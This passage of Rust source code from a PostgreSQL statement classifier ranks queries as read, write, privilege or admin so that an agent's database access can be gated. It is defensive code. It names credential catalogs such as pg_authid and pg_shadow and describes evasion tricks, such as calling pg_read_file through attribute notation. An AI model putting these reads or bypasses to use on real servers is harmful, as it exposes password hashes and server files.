                            } else {
                                Flag::DeclareCursor(name)
                            });
                        }
                        "ExecuteStmt" => {
                            let name = body.get("name").and_then(Value::as_str).unwrap_or_default();
                            w.flags.push(Flag::ExecutePrepared(name.to_owned()));
                        }
                        "VariableSetStmt" => {
                            if let Some(change) = path_change(body) {
                                w.flags.push(Flag::SearchPath(change));
                            }
                        }
                        "CreateStmt"
                        | "CreateSeqStmt"
                        | "ViewStmt"
                        | "CreateTableAsStmt"
                        | "CreateForeignTableStmt"
                        | "SelectStmt" => {
                            let rel = match k.as_str() {
                                "CreateStmt" => body.get("relation"),
                                "CreateSeqStmt" => body.get("sequence"),
                                "ViewStmt" => body.get("view"),
                                "CreateTableAsStmt" => body.get("into").and_then(|i| i.get("rel")),
                                "CreateForeignTableStmt" => body
                                    .get("base_stmt")
                                    .or_else(|| body.get("base"))
                                    .and_then(|b| b.get("relation")),
                                _ => select_into(body).and_then(|i| i.get("rel")),
                            };
                            if let Some(rel) = rel.filter(|r| !r.is_null()) {
                                let (schema, name) = range_var(rel);
                                let temp =
                                    rel.get("relpersistence").and_then(Value::as_str) == Some("t");
                                if !name.is_empty() {
                                    w.created.insert(if temp && schema.is_empty() {
                                        relation_name("pg_temp", name)
                                    } else {
                                        relation_name(schema, name)
                                    });
                                }
                            }
                        }
                        "RenameStmt" | "AlterObjectSchemaStmt" | "CreateSchemaStmt" => {
                            w.flags.push(Flag::SearchPath(PathChange::Names));
                        }
                        "DiscardStmt" if tag == "DISCARD ALL" => {
                            // Also back to the login role: `$user` is the login again.
                            w.flags
                                .push(Flag::SearchPath(PathChange::Initial { local: false }));
                        }
                        _ if tag.starts_with("unknown statement") => {
                            w.flags.push(Flag::Unknown(k.clone()))
                        }
                        _ => {}
                    }
                }
                if k == "ColumnRef" {
                    let fields: Vec<String> = body
                        .get("fields")
                        .and_then(Value::as_array)
                        .into_iter()
                        .flatten()
                        .map(|f| {
                            let n = f.get("node").unwrap_or(f);
                            if n.get("AStar").is_some() || n.get("A_Star").is_some() {
                                "*".to_owned()
                            } else {
                                n.get("String")
                                    .and_then(|s| s.get("sval"))
                                    .and_then(Value::as_str)
                                    .unwrap_or_default()
                                    .to_owned()
                            }
                        })
                        .collect();
                    // `alias.name` with two or more fields may be a function call in
                    // attribute notation: PostgreSQL reads `f.pg_read_file` as
                    // `pg_read_file(f)` when `f` has no such column.
                    if fields.len() >= 2
                        && let Some(last) = fields.last()
                    {
                        attribute_function(w, last);
                    }
                    w.columns.push(fields);
                }
                // `(expr).name` is `name(expr)` in attribute notation too.
                if k == "A_Indirection" || k == "AIndirection" {
                    for item in body
                        .get("indirection")
                        .and_then(Value::as_array)
                        .into_iter()
                        .flatten()
                    {
                        let n = item.get("node").unwrap_or(item);
                        if let Some(name) = n
                            .get("String")
                            .and_then(|s| s.get("sval"))
                            .and_then(Value::as_str)
                        {
                            attribute_function(w, name);
                        }
                    }
                }
                if k == "SelectStmt"
                    && body
                        .get("locking_clause")
                        .and_then(Value::as_array)
                        .is_some_and(|a| !a.is_empty())
                {
                    // FOR UPDATE / FOR SHARE lock rows and write lock marks into them: the
                    // database itself refuses them in a read-only transaction.
                    w.raise(OperationClass::Write);
                }
                if matches!(k.as_str(), "InsertStmt" | "UpdateStmt" | "MergeStmt") {
                    w.flags.push(Flag::StoresValues);
                }
                if k == "JoinExpr" && alias_renames(body) {
                    w.renamed = true;
                }
                if matches!(
                    k.as_str(),
                    "InsertStmt" | "UpdateStmt" | "DeleteStmt" | "MergeStmt" | "CopyStmt"
                ) && writes_settings(k, body)
                {
                    // `pg_settings` is a view whose rules run `set_config`: writing it
                    // changes settings.
                    w.raise(OperationClass::Privilege);
                    w.flags.push(Flag::Function("set_config".into()));
                }
                operators(k, body, w);
                if matches!(
                    k.as_str(),
                    "RangeSubselect" | "RangeFunction" | "RangeTableFunc" | "RangeTableSample"
                ) {
                    w.derived = true;
                }
                if k == "AlterTableCmd" {
                    use pg_query::protobuf::AlterTableType as T;
                    let sub = body
                        .get("subtype")
                        .and_then(Value::as_i64)
                        .and_then(|n| i32::try_from(n).ok())
                        .and_then(|n| T::try_from(n).ok());
                    // Ownership, row-level security, triggers and rules decide who sees and
                    // records what: changing them is a privilege change. That includes
                    // when a trigger or rule fires (`ENABLE REPLICA TRIGGER` stops it for
                    // ordinary sessions, `ENABLE ALWAYS` makes it fire under
                    // `session_replication_role`).
                    if matches!(
                        sub,
                        Some(
                            T::AtChangeOwner
                                | T::AtEnableRowSecurity
                                | T::AtDisableRowSecurity
                                | T::AtForceRowSecurity
                                | T::AtNoForceRowSecurity
                                | T::AtEnableTrig
                                | T::AtEnableAlwaysTrig
                                | T::AtEnableReplicaTrig
                                | T::AtEnableTrigAll
                                | T::AtEnableTrigUser
                                | T::AtDisableTrig
                                | T::AtDisableTrigAll
                                | T::AtDisableTrigUser
                                | T::AtEnableRule
                                | T::AtEnableAlwaysRule
                                | T::AtEnableReplicaRule
                                | T::AtDisableRule
                        )
                    ) {
                        w.raise(OperationClass::Privilege);
                    }
                }
                if matches!(
                    k.as_str(),
                    "SelectStmt" | "InsertStmt" | "UpdateStmt" | "DeleteStmt" | "MergeStmt"
                ) {
                    walk_query(body, w);
                } else {
                    walk(body, w);
                }
            }
            // Some fields hold a RangeVar or a FuncCall directly rather than inside a Node, so
            // they are recognised by their fields, not by a key.
            if m.get("relname")
                .and_then(Value::as_str)
                .is_some_and(|r| !r.is_empty())
                && alias_renames(v)
            {
                w.renamed = true;
            }
            if let (Some(rel), Some("")) = (
                m.get("relname").and_then(Value::as_str),
                m.get("schemaname").and_then(Value::as_str),
            ) && w.ctes.iter().any(|c| c == rel)
            {
                w.derived = true;
            }
            if let (Some(rel), Some(schema)) = (
                m.get("relname").and_then(Value::as_str),
                m.get("schemaname").and_then(Value::as_str),
            ) && !rel.is_empty()
                // A `WITH` query's name, where it is visible, reads that query.
                && !(schema.is_empty() && w.ctes.iter().any(|c| c == rel))
            {
                let name = relation_name(schema, rel);
                if let Some(alias) = m
                    .get("alias")
                    .and_then(|a| a.get("aliasname"))
                    .and_then(Value::as_str)
                    .filter(|a| !a.is_empty())
                {
                    w.aliases.add(alias.to_owned(), name.clone());
                }
                if matches!(schema, "" | "pg_catalog")
                    && let Some(c) = system_relation_class(rel)
                {
                    w.raise(c);
                }
                w.relations.insert(name);
            }
            if let Some(funcname) = m.get("funcname")
                && m.contains_key("funcformat")
            {
                let parts = string_parts(funcname);
                if let Some(name) = parts.last() {
                    let name = name.to_lowercase();
                    // `schema.f` (or `catalog.schema.f`): the schema is the part before
                    // the name.
                    let schema = parts
                        .len()
                        .checked_sub(2)
                        .and_then(|i| parts.get(i))
                        .cloned()
                        .unwrap_or_default();
                    w.calls.insert((schema, name.clone()));
                    if let Some(c) = function_class(&name) {
                        w.raise(c);
                        w.flags.push(Flag::Function(name.clone()));
                    }
                    if let Some(rel) = function_reads(&name) {
                        w.relations.insert(rel.to_owned());
                    }
                    w.functions.insert(name);
                }
            }
        }
        Value::Array(a) => a.iter().for_each(|x| walk(x, w)),
        _ => {}
    }
}

/// Whether a write's target (`INSERT INTO`, `UPDATE`, `DELETE FROM`, `MERGE INTO`, `COPY …
/// FROM`) is `pg_catalog.pg_settings`, written unqualified or not: its rules run
/// `set_config`. (The target is always a table, never a `WITH` query.)
fn writes_settings(kind: &str, body: &Value) -> bool {
    if kind == "CopyStmt"
        && !body
            .get("is_from")
            .and_then(Value::as_bool)
            .unwrap_or(false)
    {
        return false;
    }
    body.get("relation")
        .filter(|r| !r.is_null())
        .map(range_var)
        .is_some_and(|(schema, rel)| matches!(schema, "" | "pg_catalog") && rel == "pg_settings")
}

/// Records the operators node `kind` uses, named or implied (see [`Statement::operators`]).
fn operators(kind: &str, body: &Value, w: &mut Walk) {
    use pg_query::protobuf::{AExprKind as A, SubLinkType};
    let mut add = |list: &Value| {
        let parts = string_parts(list);
        if let Some(op) = parts.last() {
            let schema = parts
                .len()
                .checked_sub(2)
                .and_then(|i| parts.get(i))
                .cloned()
                .unwrap_or_default();
            w.operators.insert((schema, op.clone()));
        }
    };
    let implied = |w: &mut Walk, op: &str| {
        w.operators.insert((String::new(), op.to_owned()));
    };
    match kind {
        "AExpr" | "A_Expr" => {
            let k = body.get("kind").and_then(Value::as_i64).unwrap_or_default();
            let between = [
                A::AexprBetween,
                A::AexprNotBetween,
                A::AexprBetweenSym,
                A::AexprNotBetweenSym,
            ]
            .iter()
            .any(|b| *b as i64 == k);
            if between {
                // `a BETWEEN x AND y` is `a >= x AND a <= y`; NOT BETWEEN `a < x OR a > y`.
                for op in [">=", "<=", "<", ">"] {
                    implied(w, op);
                }
            } else if let Some(name) = body.get("name") {
                add(name);
            }
        }
        "SortBy" => add(body.get("use_op").unwrap_or(&Value::Null)),
        "SubLink" => {
            let named = body
                .get("oper_name")
                .and_then(Value::as_array)
                .is_some_and(|a| !a.is_empty());
            if named {
                if let Some(op) = body.get("oper_name") {
                    add(op);
                }
            } else if body.get("sub_link_type").and_then(Value::as_i64)
                == Some(SubLinkType::AnySublink as i64)
            {
                // `x IN (SELECT …)`.
                implied(w, "=");
            }
        }
        "JoinExpr" => {
            let using = body
                .get("using_clause")
                .and_then(Value::as_array)
                .is_some_and(|a| !a.is_empty());
            if using
                || body
                    .get("is_natural")
                    .and_then(Value::as_bool)
                    .unwrap_or(false)
            {
                implied(w, "=");
            }
        }
        // `CASE x WHEN v …` compares with `=`.
        "CaseExpr" if body.get("arg").is_some_and(|a| !a.is_null()) => implied(w, "="),
        _ => {}
    }
}

/// A query that may have a `WITH` clause, with the scoping PostgreSQL gives the names of its
/// `WITH` queries: each one's body sees the queries listed before it (all of them, itself
/// included, under `WITH RECURSIVE`), the rest of the statement sees them all, and nested
/// queries see what their parents see. The relation a statement writes (`INSERT INTO`,
/// `UPDATE`, `DELETE FROM`, `MERGE INTO`, `SELECT … INTO`) is always a table: a `WITH` query
/// does not hide a table there.
fn walk_query(body: &Value, w: &mut Walk) {
    let Value::Object(fields) = body else {
        walk(body, w);
        return;
    };
    let with = body.get("with_clause").filter(|c| !c.is_null());
    let recursive = with
        .and_then(|c| c.get("recursive"))
        .and_then(Value::as_bool)
        .unwrap_or(false);
    let ctes: Vec<&Value> = with
        .and_then(|c| c.get("ctes"))
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .collect();
    let names: Vec<String> = ctes
        .iter()
        .map(|c| {
            c.get("node")
                .unwrap_or(c)
                .get("CommonTableExpr")
                .and_then(|e| e.get("ctename"))
                .and_then(Value::as_str)
                .unwrap_or_default()
                .to_owned()
        })
        .collect();
    let outer = w.ctes.len();
    for (i, cte) in ctes.iter().enumerate() {
        let visible = if recursive { &names[..] } else { &names[..i] };
        w.ctes.extend(visible.iter().cloned());
        walk(cte, w);
        w.ctes.truncate(outer);
    }
    w.ctes.extend(names);
    for (field, v) in fields {
        match field.as_str() {
            "with_clause" => {}
            // The sides of a set operation are queries held directly, not inside a node.
            "larg" | "rarg" => walk_query(v, w),
            "relation" | "into_clause" => {
                let visible = std::mem::take(&mut w.ctes);
                walk(v, w);
                w.ctes = visible;
            }
            _ => walk(v, w),
        }
    }
    w.ctes.truncate(outer);
}

/// Whether a transaction statement or `SET TRANSACTION` turns `transaction_read_only` off
/// (`READ WRITE`), lifting the database's own read-only safety net.
fn options_set_read_write(body: &Value) -> bool {
    let list = body
        .get("options")
        .or_else(|| body.get("args"))
        .and_then(Value::as_array);
    list.into_iter().flatten().any(|o| {
        let d = o.get("node").unwrap_or(o).get("DefElem");
        let name = d.and_then(|d| d.get("defname")).and_then(Value::as_str);
        let ival = d
            .and_then(|d| d.pointer("/arg/node/AConst/val/Ival/ival"))
            .and_then(Value::as_i64)
            // A missing `ival` is protobuf's zero: READ WRITE.
            .unwrap_or(0);
        name == Some("transaction_read_only") && ival == 0
    })
}

/// A RangeVar's schema (empty when unqualified) and relation name.
fn range_var(rel: &Value) -> (&str, &str) {
    let get = |k: &str| rel.get(k).and_then(Value::as_str).unwrap_or_default();
    (get("schemaname"), get("relname"))
}

/// A relation as statements' `relations` name it: `schema.name`, or `name` when unqualified;
/// a part holding a dot or a double quote is double-quoted (quotes doubled), so the dot
/// between schema and name is the only one outside quotes.
pub fn relation_name(schema: &str, rel: &str) -> String {
    let part = |p: &str| {
        if p.contains(['.', '"']) {
            format!("\"{}\"", p.replace('"', "\"\""))
        } else {
            p.to_owned()
        }
    };
    if schema.is_empty() {
        part(rel)
    } else {
        format!("{}.{}", part(schema), part(rel))
    }
}

/// The rest of a double-quoted identifier whose opening quote was read: up to its closing
/// quote (read too), a doubled quote read as one.
pub fn quoted_identifier(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) -> String {
    let mut name = String::new();
    while let Some(c) = chars.next() {
        match c {
            '"' if chars.peek() == Some(&'"') => {
                chars.next();
                name.push('"');
            }
            '"' => break,
            c => name.push(c),
        }
    }
    name
}

/// A relation as [`relation_name`] renders it, split into its schema (empty when
/// unqualified) and table name, both unquoted.
pub fn relation_parts(name: &str) -> (String, String) {
    let mut parts = Vec::new();
    let mut chars = name.chars().peekable();
    loop {
        let mut part = String::new();
        if chars.peek() == Some(&'"') {
            chars.next();
            part = quoted_identifier(&mut chars);
            // Up to the separating dot.
            while chars.peek().is_some_and(|c| *c != '.') {
                chars.next();
            }
        } else {
            while let Some(&c) = chars.peek() {
                if c == '.' {
                    break;
                }
                part.push(c);
                chars.next();
            }
        }
        parts.push(part);
        if chars.next().is_none() {
            break;
        }
    }
    match parts.len() {
        0 | 1 => (String::new(), parts.pop().unwrap_or_default()),
        _ => {
            let table = parts.pop().unwrap_or_default();
            (parts.pop().unwrap_or_default(), table)
        }
    }
}

/// The table name of an unqualified relation as [`relation_name`] renders it (unquoted), or
/// `None` when it names its schema.
pub fn unqualified(name: &str) -> Option<String> {
    match name.strip_prefix('"').and_then(|n| n.strip_suffix('"')) {
        Some(inner) if !inner.replace("\"\"", "").contains('"') => {
            Some(inner.replace("\"\"", "\""))
        }
        Some(_) => None,
        None if name.contains(['.', '"']) => None,
        None => Some(name.to_owned()),
    }
}

/// An identifier as the server keeps it: at most 63 bytes (`NAMEDATALEN - 1`), cut at a
/// character boundary.
pub fn truncate_identifier(name: &str) -> String {
    const MAX: usize = 63;
    if name.len() <= MAX {
        return name.to_owned();
    }
    let mut end = MAX;
    while !name.is_char_boundary(end) {
        end -= 1;
    }
    name[..end].to_owned()
}

/// How a `SET`/`RESET` changes the search path, if it does.
fn path_change(body: &Value) -> Option<PathChange> {
    use pg_query::protobuf::VariableSetKind as K;
    let name = body
        .get("name")
        .and_then(Value::as_str)
        .unwrap_or_default()
        .to_ascii_lowercase();
    let kind = body.get("kind").and_then(Value::as_i64).unwrap_or_default();
    let is = |k: K| kind == k as i64;
    let local = body
        .get("is_local")
        .and_then(Value::as_bool)
        .unwrap_or(false);
    match name.as_str() {
        "search_path" if is(K::VarSetValue) => {
            // Each argument is one schema name, exactly (the server quotes it into the list),
            // cut to the server's identifier length as the server cuts it when it reads the
            // list.
            let names: Option<Vec<String>> = body
                .get("args")
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
                .map(|a| {
                    a.pointer("/node/AConst/val/Sval/sval")
                        .and_then(Value::as_str)
                        .map(truncate_identifier)
                })
                .collect();
            Some(match names {
                Some(path) if !path.is_empty() => PathChange::To { path, local },
                _ => PathChange::Unknown,
            })
        }
        "search_path" if is(K::VarSetDefault) || is(K::VarReset) => {
            Some(PathChange::Initial { local })
        }
        "search_path" => Some(PathChange::Unknown),
        "role" | "session_authorization" => Some(PathChange::Role),
        "" if is(K::VarResetAll) => Some(PathChange::Initial { local: false }),
        _ => None,
    }
}

/// Whether `SET default_transaction_read_only` / `transaction_read_only` (or `RESET`, or
/// `TO DEFAULT`) may turn read-only off: anything but a plain `on`, `true`, `yes` or `1`.
fn setting_lifts_read_only(body: &Value) -> bool {
    let args: Vec<&Value> = body
        .get("args")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .collect();
    let on = args.len() == 1
        && args[0]
            .pointer("/node/AConst/val")
            .is_some_and(|v| match v {
                Value::Object(m) => {
                    m.get("Sval")
                        .and_then(|s| s.get("sval"))
                        .and_then(Value::as_str)
                        .is_some_and(|s| {
                            matches!(s.to_ascii_lowercase().as_str(), "on" | "true" | "yes" | "1")
                        })
                        || m.get("Ival")
                            .and_then(|s| s.get("ival"))
                            .and_then(Value::as_i64)
                            == Some(1)
                        || m.get("Boolval")
                            .and_then(|s| s.get("boolval"))
                            .and_then(Value::as_bool)
                            == Some(true)
                }
                _ => false,
            });
    !on
}

/// Settings whose change only shapes how the session's own results look or how its own
/// queries are planned, never what it may see or do: `SET`, `SET LOCAL`, `RESET` and `SET …
/// TO DEFAULT` of them are reads. Every other setting (custom, dotted names included) is
/// classed like `set_config`: a privilege.
const READ_SETTINGS: &[&str] = &[
    // How values are shown and messages reported.
    "application_name",
    "datestyle",
    "intervalstyle",
    "timezone",
    "extra_float_digits",
    "bytea_output",
    "xmlbinary",
    "xmloption",
    "client_min_messages",
    "lc_messages",
    "lc_monetary",
    "lc_numeric",
    "lc_time",
    "default_text_search_config",
    // Transaction characteristics (turning read-only off is a write: see above).
    "transaction",
    "session characteristics",
    "transaction snapshot",
    "transaction_isolation",
    "transaction_deferrable",
    "transaction_read_only",
    "default_transaction_isolation",
    "default_transaction_deferrable",
    "default_transaction_read_only",
    // The session's own resources and durability, and how it checks function bodies
    // (pg_dump's scripts set these).
    "work_mem",
    "maintenance_work_mem",
    "temp_buffers",
    "max_parallel_workers_per_gather",
    "synchronous_commit",
    "check_function_bodies",
    // The planner's costs and strategies (`enable_*` too).
    "seq_page_cost",
    "random_page_cost",
    "cpu_tuple_cost",
    "cpu_index_tuple_cost",
    "cpu_operator_cost",
    "parallel_setup_cost",
    "parallel_tuple_cost",
    "min_parallel_table_scan_size",
    "min_parallel_index_scan_size",
    "effective_cache_size",
    "default_statistics_target",
    "constraint_exclusion",
    "cursor_tuple_fraction",
    "from_collapse_limit",
    "join_collapse_limit",
    "plan_cache_mode",
    "recursive_worktable_factor",
    "geqo",
    "geqo_threshold",
    "geqo_effort",
    "geqo_pool_size",
    "geqo_generations",
    "geqo_selection_bias",
    "geqo_seed",
    "jit",
    "jit_above_cost",
    "jit_inline_above_cost",
    "jit_optimize_above_cost",
];

/// Timeouts that bound the session itself: setting one is a read when it keeps a limit (a
/// positive value of at most [`MAX_READ_TIMEOUT_MS`]) or goes back to the configured one
/// (`RESET`, `DEFAULT`); `0` (no limit) or a longer one lifts what the operator may have
/// set on the role, which is a privilege.
const TIMEOUT_SETTINGS: &[&str] = &[
    "statement_timeout",
    "lock_timeout",
    "idle_in_transaction_session_timeout",
    "idle_session_timeout",
    "transaction_timeout",
];

/// The longest timeout a `SET` may give as a read: one hour, in milliseconds.
const MAX_READ_TIMEOUT_MS: f64 = 3_600_000.0;

/// Whether `SET`/`RESET` of setting `name` (lower case) with this statement's arguments
/// changes only what [`READ_SETTINGS`] and [`TIMEOUT_SETTINGS`] allow.
fn harmless_setting(name: &str, body: &Value) -> bool {
    use pg_query::protobuf::VariableSetKind as K;
    // Core settings have no dot; every dotted name is an extension's or a custom one.
    if name.contains('.') {
        return false;
    }
    if READ_SETTINGS.contains(&name)
        || (name.starts_with("enable_")
            && name[7..]
                .chars()
                .all(|c| c.is_ascii_lowercase() || c == '_'))
    {
        return true;
    }
    if !TIMEOUT_SETTINGS.contains(&name) {
        return false;
    }
    let kind = body.get("kind").and_then(Value::as_i64).unwrap_or_default();
    if kind == K::VarSetDefault as i64
        || kind == K::VarReset as i64
        || kind == K::VarSetCurrent as i64
    {
        return true;
    }
    kind == K::VarSetValue as i64
        && timeout_ms(body).is_some_and(|ms| (1.0..=MAX_READ_TIMEOUT_MS).contains(&ms))
}

/// The value of a `SET` of a timeout, in milliseconds (its base unit), as the server reads
/// it; `None` when it is not one plain number with an optional unit (the server's units are
/// case-sensitive).
fn timeout_ms(body: &Value) -> Option<f64> {
    let args = body.get("args").and_then(Value::as_array)?;
    let [arg] = args.as_slice() else {
        return None;
    };
    let val = arg.pointer("/node/AConst/val")?;
    if let Some(i) = val.pointer("/Ival/ival") {
        return i.as_f64();
    }
    if val.get("Ival").is_some() {
        // protobuf's zero is left out.
        return Some(0.0);
    }
    let text = val
        .pointer("/Fval/fval")
        .or_else(|| val.pointer("/Sval/sval"))
        .and_then(Value::as_str)?
        .trim();
    let split = text
        .find(|c: char| !(c.is_ascii_digit() || c == '.'))
        .unwrap_or(text.len());
    let (number, unit) = text.split_at(split);
    // A leading zero may be read as octal or hex by the server: only plain decimals count.
    if number.is_empty()
        || (number.len() > 1 && number.starts_with('0') && !number.starts_with("0."))
    {
        return None;
    }
    let number: f64 = number.parse().ok()?;
    let scale = match unit.trim_start() {
        "" | "ms" => 1.0,
        "us" => 0.001,
        "s" => 1_000.0,
        "min" => 60_000.0,
        "h" => 3_600_000.0,
        "d" => 86_400_000.0,
        _ => return None,
    };
    Some(number * scale)
}

/// Whether the classifier gives `function` (lower-case, without schema) a class of its own.
pub fn known_function(function: &str) -> bool {
    function_class(function).is_some()
}

/// Raises the statements that call `function` (and the whole text) to at least `class`,
/// flagging the call: for what the catalog says about a function the classifier does not
/// know (a volatile one may change anything).
pub fn raise_function(c: &mut Classified, function: &str, class: OperationClass) {
    for st in Arc::make_mut(&mut c.statements) {
        if st.functions.contains(function) || st.attribute_calls.contains(function) {
            st.class = max(st.class, class);
            st.flags.push(Flag::Function(function.to_owned()));
        }
    }
    c.class = c.statements.iter().fold(c.class, |a, s| max(a, s.class));
}

/// Raises the statements that call `name` (lower case) with `schema` (empty: unqualified)
/// to at least `class`, flagging the call as written (`app.random`): for what the catalog
/// says of that call.
pub fn raise_call(c: &mut Classified, schema: &str, name: &str, class: OperationClass) {
    let key = (schema.to_owned(), name.to_owned());
    let shown = if schema.is_empty() {
        name.to_owned()
    } else {
        relation_name(schema, name)
    };
    for st in Arc::make_mut(&mut c.statements) {
        if st.calls.contains(&key) {
            st.class = max(st.class, class);
            st.flags.push(Flag::Function(shown.clone()));
        }
    }
    c.class = c.statements.iter().fold(c.class, |a, s| max(a, s.class));
}

/// Raises the statements that use operator `op` with `schema` (empty: looked up on the
/// search path) to at least `class`, flagging it as `OPERATOR(schema.op)`: an operator
/// runs its function.
pub fn raise_operator(c: &mut Classified, schema: &str, op: &str, class: OperationClass) {
    let key = (schema.to_owned(), op.to_owned());
    let shown = if schema.is_empty() {
        format!("OPERATOR({op})")
    } else {
        format!("OPERATOR({}.{op})", relation_name("", schema))
    };
    for st in Arc::make_mut(&mut c.statements) {
        if st.operators.contains(&key) {
            st.class = max(st.class, class);
            st.flags.push(Flag::Function(shown.clone()));
        }
    }
    c.class = c.statements.iter().fold(c.class, |a, s| max(a, s.class));
}

/// A name that PostgreSQL may read as a function call in attribute notation (`x.f` or
/// `(expr).f` for `f(x)`): classed like the call.
fn attribute_function(w: &mut Walk, name: &str) {
    let name = name.to_lowercase();
    if name != "*" {
        w.attribute_calls.insert(name.clone());
    }
    if let Some(rel) = function_reads(&name) {
        w.relations.insert(rel.to_owned());
    }
    if let Some(c) = function_class(&name) {
        w.raise(c);
        w.flags.push(Flag::Function(name.clone()));
        w.functions.insert(name);
    }
}

/// The class of reading a system view (or catalog) of `pg_catalog`, named unqualified or
/// with that schema, when it is more than a read: views over the server's configuration
/// files and build (what `pg_hba_file_rules()`, `pg_show_all_file_settings()`,
/// `pg_ident_file_mappings()` and `pg_config()` return), over its shared memory and
/// backend internals, and catalogs that hold credentials (password hashes, the passwords
/// of user mappings). An unqualified name that is a table of the agent's own is classed
/// the same (the name resolves to `pg_catalog` first on the default path).
pub fn system_relation_class(name: &str) -> Option<OperationClass> {
    use OperationClass::*;
    Some(match name {
        "pg_hba_file_rules"
        | "pg_ident_file_mappings"
        | "pg_file_settings"
        | "pg_config"
        | "pg_shmem_allocations"
        | "pg_shmem_allocations_numa"
        | "pg_backend_memory_contexts"
        | "pg_authid"
        | "pg_shadow"
        | "pg_user_mapping"
        | "pg_user_mappings" => Admin,
        _ => return None,
    })
}

/// The relation whose rows a built-in function returns without the statement naming it:
/// other sessions' query texts (what `pg_stat_activity` shows) and large objects (the
/// contents of `pg_largeobject`). A statement calling one reads that relation: table scopes
/// must cover it, and its masking applies.
pub fn function_reads(name: &str) -> Option<&'static str> {
    match name {
        "pg_stat_get_activity" | "pg_stat_get_backend_activity" => {
            Some("pg_catalog.pg_stat_activity")
        }
        "pg_stat_statements" => Some("pg_stat_statements"),
        "lo_get" | "loread" | "lo_open" | "lo_export" => Some("pg_catalog.pg_largeobject"),
        _ => None,
    }
}

/// The first keywords of statements whose classification never depends on the value of a
/// constant (only on node kinds and identifiers), so statements of the same shape share it.
/// `COPY` is not among them: `FORMAT 'binary'` is a constant that matters.
const SHAPE_CACHED: [&str; 6] = ["select", "insert", "update", "delete", "with", "values"];

/// A statement's shape: its tokens, with each constant replaced by its kind and comments
/// dropped (`None` when it does not scan, or is not a statement whose class is
/// constant-free).
fn shape(sql: &str) -> Option<String> {
    use pg_query::protobuf::Token;
    // Only texts that start with one of the keywords (so the scanner has at least one token
    // to return: pg_query's token slice is not valid when there are none).
    let head = sql.trim_start();
    let starts = SHAPE_CACHED.iter().any(|k| {
        head.get(..k.len())
            .is_some_and(|w| w.eq_ignore_ascii_case(k))
            && !head[k.len()..]
                .chars()
                .next()
                .is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '$')
    });
    if !starts {
        return None;
    }
    let tokens = pg_query::scan_tokens(sql).ok()?;
    let first = tokens.first()?;
    let word = sql.get(usize::try_from(first.start).ok()?..usize::try_from(first.end).ok()?)?;
    if !SHAPE_CACHED.iter().any(|k| word.eq_ignore_ascii_case(k)) {
        return None;
    }
    let mut key = String::with_capacity(sql.len() + 16);
    for (i, t) in tokens.iter().enumerate() {
        // Trailing semicolons (`SELECT 1;`, as psql and pgbench send) end the one statement;
        // anything after a semicolon is a second statement, which is never cached.
        if t.token == Token::Ascii59 as i32 {
            if tokens[i..].iter().all(|u| u.token == Token::Ascii59 as i32) {
                break;
            }
            return None;
        }
        let text = sql.get(usize::try_from(t.start).ok()?..usize::try_from(t.end).ok()?)?;
        match Token::try_from(t.token).ok()? {
            // One statement only (a second one could be anything, e.g. a COPY), and no
            // Unicode escapes: UESCAPE's constant decides what a U&"…" identifier names.
            Token::Ascii59 | Token::Uident | Token::Usconst | Token::Uescape => return None,
            Token::Fconst | Token::Sconst | Token::Bconst | Token::Xconst | Token::Iconst => {
                key.push('\u{1}');
                key.push_str(&t.token.to_string());
            }
            Token::SqlComment | Token::CComment => {}
            _ => {
                // Length-prefixed, so no two token sequences make the same key.
                key.push_str(&text.len().to_string());
                key.push(':');
                key.push_str(text);
            }
        }
        key.push(' ');
    }
    Some(key)
}

/// Classifies a query string (one or more statements).
pub fn classify(sql: &str) -> Result<Classified, ClassifyError> {
    // The same shape classifies the same way: drivers and ORMs send a few statement shapes
    // over and over, with other constants each time; the last few thousand are kept. The
    // fingerprint is always of this exact text. A text seen before (a prepared statement's
    // text, parsed again for each execution) is found by the text itself, without the scan
    // that makes its shape.
    type Cached = Arc<Result<Classified, ClassifyError>>;
    #[derive(Default)]
    struct Cache {
        shapes: HashMap<String, Cached>,
        texts: HashMap<Box<str>, Cached>,
    }
    static CACHE: std::sync::LazyLock<std::sync::Mutex<Cache>> =
        std::sync::LazyLock::new(Default::default);
    const CACHE_ENTRIES: usize = 4096;
    const CACHE_TEXT: usize = 16 << 10;
    // Texts are kept whole as keys: only short ones (what drivers repeat).
    const EXACT_TEXT: usize = 1 << 10;
    if sql.contains('\0') {
        return Err(ClassifyError::Nul);
    }
    let from = |hit: &Cached| match &**hit {
        Ok(c) => Ok(Classified {
            fingerprint: Fingerprint::of(sql),
            ..c.clone()
        }),
        Err(e) => Err(e.clone()),
    };
    if sql.len() <= EXACT_TEXT
        && let Some(hit) = CACHE.lock().ok().and_then(|c| c.texts.get(sql).cloned())
    {
        return from(&hit);
    }
    let key = if sql.len() <= CACHE_TEXT {
        shape(sql)
    } else {
        None
    };
    let remember = |cache: &mut Cache, hit: &Cached| {
        if sql.len() <= EXACT_TEXT {
            if cache.texts.len() >= CACHE_ENTRIES {
                cache.texts.clear();
            }
            cache.texts.insert(Box::from(sql), hit.clone());
        }
    };
    let hit = key.as_ref().and_then(|k| {
        let mut cache = CACHE.lock().ok()?;
        let hit = cache.shapes.get(k).cloned()?;
        remember(&mut cache, &hit);
        Some(hit)
    });
    if let Some(hit) = hit {
        return from(&hit);
    }
    let mut result = classify_uncached(sql);
    // Only successes are shared: a failure may come from a constant's value.
    if let Some(key) = key
        && let Ok(c) = result.as_mut()
        && let Ok(mut cache) = CACHE.lock()
    {
        c.redacted = super::redact(sql).map(Arc::from);
        if cache.shapes.len() >= CACHE_ENTRIES {
            cache.shapes.clear();
        }
        let shared = Arc::new(result.clone());
        remember(&mut cache, &shared);
        cache.shapes.insert(key, shared);
    }
    result
}

fn classify_uncached(sql: &str) -> Result<Classified, ClassifyError> {
    if sql.contains('\0') {
        return Err(ClassifyError::Nul);
    }
    let parsed = pg_query::parse(sql, pg_query::ParserOptions::DEFAULT).map_err(|e| {
        ClassifyError::Syntax(
            e.to_string()
                .trim_start_matches("Error parsing query: ")
                .to_owned(),
        )
    })?;
    let mut statements = Vec::new();
    let mut class = OperationClass::Read;
    for raw in &parsed.protobuf.stmts {
        let tree = serde_json::to_value(raw).unwrap_or(Value::Null);
        let mut w = Walk::default();
        walk(&tree, &mut w);
        // A tree whose statement could not be recognised at all fails closed.
        let c = w.class.unwrap_or(OperationClass::Admin);
        class = max(class, c);
        w.flags.sort();
        w.flags.dedup();
        statements.push(Statement {
